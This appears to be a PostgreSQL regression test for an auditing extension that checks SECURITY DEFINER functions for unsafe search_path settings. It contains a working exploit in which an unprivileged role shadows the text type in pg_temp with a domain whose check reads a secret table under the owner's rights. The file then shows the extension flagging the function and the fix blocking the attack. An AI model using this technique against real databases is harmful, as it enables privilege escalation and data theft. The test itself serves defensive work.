-- Attack on search_path = '': anon may execute a function of app_owner, which alone may read the table.
CREATE ROLE app_owner;
CREATE ROLE anon;
ALTER DATABASE regression OWNER TO app_owner;
SET ROLE app_owner;
CREATE SCHEMA api;
GRANT USAGE ON SCHEMA api TO anon;
CREATE TABLE api.safe (secret text);
INSERT INTO api.safe VALUES ('the combination is 12-34-56');
CREATE FUNCTION api.greet(name text) RETURNS text LANGUAGE plpgsql SECURITY DEFINER SET search_path = ''
  AS $$ DECLARE greeting text := 'hello ' || name; BEGIN RETURN greeting; END $$;
RESET ROLE;

-- anon creates a type in its temporary schema with a check that executes its code.
SET SESSION AUTHORIZATION anon;
SELECT * FROM api.safe;
CREATE FUNCTION pg_temp.steal(pg_catalog.text) RETURNS boolean LANGUAGE plpgsql
  AS $$ BEGIN RAISE WARNING 'as %: %', current_user, (SELECT secret FROM api.safe); RETURN true; END $$;
CREATE DOMAIN pg_temp.text AS pg_catalog.text CHECK (pg_temp.steal(VALUE));
GRANT USAGE ON TYPE pg_temp.text TO PUBLIC;
GRANT EXECUTE ON FUNCTION pg_temp.steal(pg_catalog.text) TO PUBLIC;
SELECT api.greet('world');
RESET SESSION AUTHORIZATION;

-- The extension reports the function and rejects similar ones.
CREATE EXTENSION dragonfly_guard;
SELECT object, evidence->>'verdict' AS verdict, fix FROM ops.audit_functions() WHERE rule = 'security_definer_search_path';

-- With pg_temp last it is safe: a new session of anon with the same objects.
ALTER ROUTINE api.greet(pg_catalog.text) SET search_path = pg_catalog, pg_temp;
\c -
SET SESSION AUTHORIZATION anon;
CREATE FUNCTION pg_temp.steal(pg_catalog.text) RETURNS boolean LANGUAGE plpgsql
  AS $$ BEGIN RAISE WARNING 'as %: %', current_user, (SELECT secret FROM api.safe); RETURN true; END $$;
CREATE DOMAIN pg_temp.text AS pg_catalog.text CHECK (pg_temp.steal(VALUE));
SELECT api.greet('world');
RESET SESSION AUTHORIZATION;
SELECT verdict, reasons FROM ops.judge_search_path('api.greet(pg_catalog.text)'::regprocedure);
